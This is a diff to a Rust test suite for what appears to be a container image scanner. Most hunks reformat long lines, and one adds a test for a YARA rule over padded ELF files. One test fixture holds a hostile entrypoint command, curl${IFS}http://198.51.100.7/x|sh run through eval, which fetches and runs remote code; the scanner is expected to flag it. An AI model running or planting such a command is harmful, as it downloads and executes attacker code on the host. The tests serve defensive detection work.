@@ -71,7 +71,10 @@ fn the_other_platform_of_an_index_is_judged() {
     let place = Place::new();
     let mut good = RawImage::default();
     good.layer(Tar::default().file("app", b"x").end());
-    let mut bad = RawImage { platform: serde_json::json!({"architecture": "arm64", "os": "linux"}), ..RawImage::default() };
+    let mut bad = RawImage {
+        platform: serde_json::json!({"architecture": "arm64", "os": "linux"}),
+        ..RawImage::default()
+    };
     bad.config["architecture"] = serde_json::json!("arm64");
     bad.layer(marked());
     let dir = place.path("index");
@@ -97,7 +100,8 @@ fn no_such_platform_is_an_error_that_lists_those_there_are() {
 fn a_schema_1_manifest_is_refused_with_a_clear_error() {
     let place = Place::new();
     let dir = place.path("old");
-    let manifest = br#"{"schemaVersion":1,"name":"x","tag":"1","architecture":"amd64","fsLayers":[],"history":[]}"#;
+    let manifest =
+        br#"{"schemaVersion":1,"name":"x","tag":"1","architecture":"amd64","fsLayers":[],"history":[]}"#;
     let digest = support::put(&dir, manifest);
     let index = format!(
         r#"{{"schemaVersion":2,"manifests":[{{"mediaType":"application/vnd.docker.distribution.manifest.v1+prettyjws","digest":"{digest}","size":{}}}]}}"#,
@@ -169,7 +173,8 @@ fn a_file_padded_to_hide_its_middle_is_read() {
 
 #[test]
 fn no_name_and_no_folder_is_skipped() {
-    for name in ["usr/lib/libprocesshider.so", "boot/x.lock", "proc/1", "sys/x", "a.jpg", "x.log", "run/x.db"] {
+    for name in ["usr/lib/libprocesshider.so", "boot/x.lock", "proc/1", "sys/x", "a.jpg", "x.log", "run/x.db"]
+    {
         seen(&one_layer(Tar::default().file(name, &elf()).end()));
     }
 }
@@ -336,7 +341,8 @@ fn a_payload_in_a_label_that_is_run_is_followed() {
          ENV PAYLOAD=curl${IFS}http://198.51.100.7/x|sh\n\
          ENTRYPOINT [\"/bin/sh\", \"-c\", \"eval $PAYLOAD\"]\n",
     );
-    let said = place.run(&["scan", "--no-store", "--fail-on", "suspicious", &format!("oci:{}", image.display())]);
+    let said =
+        place.run(&["scan", "--no-store", "--fail-on", "suspicious", &format!("oci:{}", image.display())]);
     assert_eq!(said.code, 1, "{said:?}");
 }
 
@@ -380,4 +386,23 @@ fn a_damaged_test_archive_that_is_plain_data_stays_clean() {
     broken.truncate(broken.len() / 2);
     let said = one_layer(Tar::default().file("usr/share/tests/bad.gz", &broken).end());
     assert_eq!(said.code, 0, "{said:?}");
+}
+
+#[test]
+fn padding_a_program_past_the_first_window_hides_it_from_no_rule() {
+    let place = Place::new();
+    // As most rules for programs are written: the magic first, then what gives it away.
+    let rule = format!(
+        "rule marked_program {{\n  meta:\n    title = \"be a program with the marker\"\n    explanation = \"A marker.\"\n    \
+         class = \"malware\"\n    severity = \"high\"\n    confidence = \"high\"\n  strings:\n    $a = \"{MARKER}\"\n  \
+         condition:\n    uint32(0) == 0x464c457f and $a\n}}\n"
+    );
+    std::fs::write(place.path("rules/marker.yar"), rule).unwrap();
+    let mut content = vec![0_u8; 5 << 20];
+    content[..4].copy_from_slice(b"\x7fELF");
+    let at = 4_500_000;
+    content[at..at + MARKER.len()].copy_from_slice(MARKER.as_bytes());
+    let mut image = RawImage::default();
+    image.layer(Tar::default().file("opt/big", &content).end());
+    seen(&place.scan_marker(&image.write(&place.path("image")), &["--max-whole-file", "1M"]));
 }
